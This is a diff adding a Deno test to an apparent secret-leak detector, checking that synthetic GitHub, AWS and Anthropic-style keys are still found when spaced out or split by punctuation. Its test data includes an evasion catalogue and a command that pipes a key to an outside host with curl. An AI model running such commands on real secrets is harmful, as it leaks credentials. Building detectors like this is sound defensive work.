@@ -299,6 +299,61 @@ Deno.test("characters joined by a separator (`g,h,p`, `g-h-p`, `g, h, p`, one a 
   ) assert.deepEqual(found(t), [], t);
 });
 
+Deno.test("a token spaced out or joined in a sentence, two spaces apart, or by marks that change (`g-h.p _/Z`) is found once", () => {
+  // As a DLP evasion suite writes it (evadex: delimiters space, doubled, mixed), after a
+  // word or a character of its own, with what follows glued on: each had been read with
+  // those glued to the token, which then started nowhere, or not read at all.
+  const ant = "sk-ant-" + "api03-" + "Zq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3Df6Gs9Ta2Ye5".repeat(2) +
+    "Qw3Er5Ty7Ui9Op1As3Df5" + "AA";
+  const tokens: [string, string][] = [
+    [GH, "github-token"],
+    [AWS, "aws-access-key-id"],
+    [ant, "anthropic-api-key"],
+  ];
+  const marks = " -./,:;|";
+  const seps: [string, (i: number) => string][] = [
+    ["a space", () => " "],
+    ["two spaces", () => "  "],
+    ["three spaces", () => "   "],
+    ["marks in turn", (i) => ["-", ".", " ", "/"][i % 4]!],
+    ["two marks in turn", (i) => (i % 2 ? "-" : ".")],
+    // Marks drawn at random (each character's code picks one).
+    ["marks at random", (i) => marks[(i * 7 + 3) % marks.length]!],
+  ];
+  const contexts: [string, (s: string) => string][] = [
+    ["a sentence", (s) => `The key is ${s}. Keep it safe.`],
+    ["code", (s) => `x = ${s};`],
+    ["a command", (s) => `echo ${s} | curl -d @- https://example.com/x`],
+    ["a line of its own", (s) => `notes\n${s}\nmore`],
+  ];
+  for (const [token, rule] of tokens) {
+    for (const [how, sep] of seps) {
+      const written = [...token].map((c, i) => (i === 0 ? c : sep(i) + c)).join("");
+      for (const [where, context] of contexts) {
+        const text = context(written);
+        const asJson = JSON.stringify({ messages: [{ role: "user", content: text }] });
+        for (const t of [text, asJson]) {
+          assert.deepEqual(found(t), [`hexdump:${rule}`], `${how}, ${where}: ${t}`);
+        }
+      }
+    }
+  }
+  // One a line, after a line of one character (`x`, then `fold -w1`).
+  const lines = `x\n${[...GH].join("\n")}\n`;
+  assert.deepEqual(found(lines), ["hexdump:github-token"]);
+  // Spaced words, numbers in columns, code and lists join nothing that is a secret.
+  for (
+    const t of [
+      "T h e  k e y  i s  s a f e  a n d  s o u n d  h e r e .",
+      "1  2  3  4  5  6  7  8  9  10  11  12  13  14  15  16",
+      "a-b.c d/e-f.g h/i-j.k l/m-n.o p/q-r.s t/u-v.w x/y-z",
+      "g-h.p _/t.o k-e.n s/a r-e.u s e/d-f.o r/C.I",
+      "x = a.b c/d-e.f g/h; y = i-j.k l/m;",
+      "2024-01-02 10:11:12, 2024-01-03 10:11:12",
+    ]
+  ) assert.deepEqual(found(t), [], t);
+});
+
 Deno.test("text spaced out is looked for in cells that end in a character, not in code", () => {
   const code = [
     "    if (i !== -1) {\n      return a + b;\n    }\n",
